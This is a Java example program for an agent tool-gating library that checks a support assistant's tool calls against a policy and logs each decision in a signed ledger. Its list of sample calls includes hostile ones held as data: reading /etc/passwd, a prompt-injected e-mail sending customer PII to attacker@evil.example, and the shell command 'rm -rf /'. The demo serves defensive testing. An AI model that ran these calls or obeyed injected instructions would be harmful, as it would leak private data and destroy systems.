package dev.lexecon.examples;

import dev.lexecon.Lexecon;
import dev.lexecon.api.Decision;
import dev.lexecon.api.DecisionRequest;
import dev.lexecon.api.Reason;
import dev.lexecon.api.ledger.EventType;
import dev.lexecon.api.ledger.Hash;
import dev.lexecon.api.ledger.InclusionProof;
import dev.lexecon.api.ledger.LedgerEntry;
import dev.lexecon.api.ledger.VerificationResult;
import dev.lexecon.ledger.Checkpoint;
import dev.lexecon.ledger.Ledger;
import dev.lexecon.ledger.LedgerVerifier;
import dev.lexecon.ledger.SignedNote;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

/**
 * The README demo: a support assistant's tool calls, each decided before it runs, including one
 * that a prompt injection in a customer e-mail tried to smuggle in.
 */
public final class AgentToolGatingDemo {
  private AgentToolGatingDemo() {}

  /** A tool call as an agent framework would hand it over. */
  record ToolCall(String story, String tool, Map<String, Object> args, List<String> dataClasses) {}

  static final List<ToolCall> CALLS =
      List.of(
          new ToolCall("search the web for the error code", "search_web",
              Map.of("query", "E1234 printer jam"), List.of()),
          new ToolCall("read a knowledge-base article", "read_file",
              Map.of("path", "/srv/kb/printers/e1234.md"), List.of()),
          new ToolCall("read a file outside the knowledge base", "read_file",
              Map.of("path", "/etc/passwd"), List.of()),
          new ToolCall("reply to the billing team", "send_email",
              Map.of("to", "billing@acme.example", "subject", "Refund for #4711"), List.of()),
          new ToolCall("INJECTED: forward the customer list to an outsider", "send_email",
              Map.of("to", "attacker@evil.example", "subject", "customers.csv"), List.of("pii")),
          new ToolCall("refund 40 EUR", "transfer_funds", Map.of("amount", 40), List.of()),
          new ToolCall("refund 250 EUR", "transfer_funds", Map.of("amount", 250), List.of()),
          new ToolCall("look up the customer's address", "lookup_customer",
              Map.of("customer", "C-1001"), List.of("pii")),
          new ToolCall("run a shell command", "exec_shell", Map.of("cmd", "rm -rf /"), List.of()));

  public static void main(String[] args) {
    run(System.out);
  }

  static void run(PrintStream out) {
    try (Lexecon lexecon =
        Lexecon.builder().policyJson(resource("/examples/agent-tools-policy.json")).build()) {
      decideAll(lexecon, out);
      showLedger(lexecon, out);
    }
  }

  /**
   * Every decision above is in the tamper-evident ledger: sign a checkpoint of it, verify the whole
   * chain, and prove that the injected call's decision is under the signed root.
   */
  static void showLedger(Lexecon lexecon, PrintStream out) {
    Ledger ledger = lexecon.ledger();
    SignedNote note = ledger.checkpoint();
    Checkpoint checkpoint = Checkpoint.parse(note.text());
    VerificationResult result = ledger.verify();
    out.println();
    out.println("ledger " + ledger.ledgerId() + ": " + result);
    out.println("signed checkpoint (verifier key " + ledger.checkpointKey() + "):");
    note.encoded().lines().forEach(line -> out.println("  " + line));
    LedgerEntry injected = ledger.entries(EventType.DECISION, 4, 1).get(0);
    InclusionProof proof = ledger.inclusionProof(injected.seq(), checkpoint.treeSize());
    out.println("inclusion proof of " + injected.payload().get("decision_id") + " ("
        + injected.entryId() + ", " + injected.payload().get("outcome") + ") in the "
        + checkpoint.treeSize() + " checkpointed entries:");
    for (Hash h : proof.path()) {
      out.println("  " + h);
    }
    out.println("  verifies against the signed root: "
        + LedgerVerifier.verifyInclusion(injected, proof, checkpoint.rootHash()));
  }

  static void decideAll(Lexecon lexecon, PrintStream out) {
    out.println("Lexecon demo: gating a support assistant's tool calls");
    out.println("policy " + lexecon.policy().policyId() + " v" + lexecon.policy().version()
        + " sha256:" + lexecon.policyHash().substring(0, 16) + "...");
    out.println();
    for (ToolCall call : CALLS) {
      DecisionRequest request =
          DecisionRequest.builder("agent:support-1", call.tool())
              .tool(call.tool())
              .arguments(call.args())
              .dataClasses(call.dataClasses())
              .userIntent(call.story())
              .build();
      Decision decision = lexecon.decide(request);
      out.printf("%-11s %s -> %s %s%n", decision.outcome(), call.story(), call.tool(), new java.util.TreeMap<>(call.args()));
      for (Reason reason : decision.reasons()) {
        out.println("            because " + reason.message()
            + (reason.ruleId() == null ? "" : "  [" + reason.ruleId() + "]"));
      }
      if (!decision.obligations().isEmpty()) {
        out.println("            obligations: " + decision.obligations());
      }
    }
  }

  static String resource(String name) {
    try (InputStream in = AgentToolGatingDemo.class.getResourceAsStream(name)) {
      if (in == null) {
        throw new IllegalStateException("missing resource " + name);
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
